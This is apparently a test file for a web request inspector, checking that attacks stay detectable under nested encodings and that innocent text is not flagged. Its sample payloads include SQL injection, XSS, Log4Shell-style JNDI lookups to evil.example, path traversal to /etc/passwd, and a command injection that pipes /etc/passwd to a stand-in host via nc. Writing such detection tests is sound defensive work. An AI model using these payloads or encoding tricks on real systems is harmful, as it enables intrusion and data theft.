import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inspectRequest } from '../inspect.ts';
import { scanTraits } from '../traits.ts';
import type { RuleGroup } from '../types.ts';
import { deriveVariants, VARIANTS_MAX } from './derive.ts';

const SEED = 20_260_101;
const DEPTH_MAX = 3;

type Encoder = (text: string) => string;

function eachCharacter(text: string, encode: (code: number) => string): string {
  return Array.from({ length: text.length }, (_, i) => encode(text.charCodeAt(i))).join('');
}

const hex = (code: number, width: number) => code.toString(16).padStart(width, '0');
const isWord = (code: number) => /[a-z\d]/i.test(String.fromCharCode(code));
const punctuation = (encode: (code: number) => string) => (text: string) =>
  eachCharacter(text, (code) => (isWord(code) ? String.fromCharCode(code) : encode(code)));

/** Every wrapping here is ASCII in, ASCII out, so that any may stand inside any other. */
const ENCODERS: ReadonlyMap<string, Encoder> = new Map<string, Encoder>([
  ['percent', (text) => encodeURIComponent(text).replaceAll(/[!'()*]/g, (sign) => `%${hex(sign.charCodeAt(0), 2)}`)],
  ['percent-all', (text) => eachCharacter(text, (code) => `%${hex(code, 2)}`)],
  ['percent-u', punctuation((code) => `%u${hex(code, 4)}`)],
  ['entity-decimal', punctuation((code) => `&#${code};`)],
  ['entity-hex', (text) => eachCharacter(text, (code) => `&#x${hex(code, 4)};`)],
  [
    'entity-named',
    (text) =>
      text
        .replaceAll('&', '&amp;')
        .replaceAll('<', '&lt;')
        .replaceAll('>', '&gt;')
        .replaceAll('"', '&quot;')
        .replaceAll("'", '&apos;'),
  ],
  ['escape-x', punctuation((code) => `\\x${hex(code, 2)}`)],
  ['escape-u', (text) => eachCharacter(text, (code) => `\\u${hex(code, 4)}`)],
  ['escape-braced', punctuation((code) => `\\u{${hex(code, 1)}}`)],
  ['base64', (text) => btoa(text)],
  ['base64url', (text) => btoa(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')],
  ['data', (text) => `data:;base64,${btoa(text)}`],
]);

const ATTACKS: ReadonlyMap<RuleGroup, string> = new Map<RuleGroup, string>([
  ['sqli', "1' UNION SELECT login, secret FROM users-- "],
  ['xss', '"><svg onload=alert(document.domain)>'],
  ['cmdi', '; cat /etc/passwd | nc evil.example 99'],
  ['jndi', '${jndi:ldap://evil.example/a}'],
  ['traversal', '../../../../../../etc/passwd'],
]);

function judge(value: string, groups: readonly RuleGroup[]) {
  return inspectRequest({ method: 'POST', path: '/', fields: [{ location: 'form', name: 'q', value }] }, { groups });
}

describe('wrappings inside each other', () => {
  const chain = fc.array(fc.constantFrom(...ENCODERS.keys()), { minLength: 1, maxLength: DEPTH_MAX });

  test.each([...ATTACKS])('an attack of %s is found under any three of them', (group, attack) => {
    expect(judge(attack, [group]).isAttack).toBe(true);
    fc.assert(
      fc.property(chain, (names) => {
        const wrapped = names.reduce((text, name) => ENCODERS.get(name)?.(text) ?? text, attack);
        expect(judge(wrapped, [group]).isAttack, wrapped).toBe(true);
      }),
      { seed: SEED, numRuns: 300 },
    );
  });

  test('an innocent text stays innocent under any three of them', () => {
    // An address that names no type of content is evidence by itself, whatever it holds.
    const honest = chain.filter((names) => !names.includes('data'));
    fc.assert(
      fc.property(honest, (names) => {
        const wrapped = names.reduce(
          (text, name) => ENCODERS.get(name)?.(text) ?? text,
          "Anna's order, 3 < 5 & done; see page 7",
        );
        expect(judge(wrapped, [...ATTACKS.keys()]).isAttack, wrapped).toBe(false);
      }),
      { seed: SEED, numRuns: 300 },
    );
  });

  test('more stages than are kept hide nothing: the text as sent, the next two readings and the innermost stay', () => {
    const value = '%26%2360%3B%2526amp%253B\\\\x41\\\\u0042＜%C0%AE&lt;';
    const variants = deriveVariants(value, scanTraits(value));
    expect(variants.length).toBe(VARIANTS_MAX);
    expect(variants[0]).toMatchObject({ value, chain: [] });
    expect(variants[1]?.chain).toEqual(['percent']);
    const last = variants.at(-1)?.value ?? '';
    expect(deriveVariants(last, scanTraits(last)).map((variant) => variant.value)).toEqual([last]);
  });

  test('any text gives at most four readings, all different, the first as it came', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom(...ENCODERS.values()), (text, encode) => {
        const value = text + encode('<a&b>');
        const variants = deriveVariants(value, scanTraits(value));
        expect(variants.length).toBeLessThanOrEqual(VARIANTS_MAX);
        expect(variants[0]?.value).toBe(value);
        expect(new Set(variants.map((variant) => variant.value)).size).toBe(variants.length);
      }),
      { seed: SEED },
    );
  });
});

describe('older wrappings', () => {
  const innermost = (value: string) => deriveVariants(value, scanTraits(value)).at(-1)?.value;

  test.each([
    ['+ADw-script+AD4-', '<script>'],
    [' ADw-b AD4-', '<b>'],
    ['+ADwAcwBjAHIAaQBwAHQAPg-', '<script>'],
    ['\u00BCb\u00BEx\u00BC/b\u00BE', '<b>x</b>'],
    ['\\xc2\\xbcb\\xc2\\xbe', '<b>'],
    ['\\74b\\76', '<b>'],
    ['\\3c b\\00003e ', '<b>'],
    ['&ltb&gt', '<b>'],
    ['<sc\0ript>', '<script>'],
    ['<\u017Fcript>', '<script>'],
  ])('%s is read as %s', (value, inner) => {
    expect(innermost(value)).toBe(inner);
  });

  test.each([
    'Add ADwx and C+ADx',
    '½ cup, ¼ tsp',
    '?a=1&lt=5&quot=3&gt=x',
    'C:\\Users\\3dfx\\docs',
    '<p>Write <code>&lt;b&gt;</code> here</p>',
    'data:image/png;base64,PHN2Zz48L3N2Zz48c3ZnPjwvc3ZnPg==',
  ])('%s stays as it is', (value) => {
    expect(innermost(value)).toBe(value);
  });
});
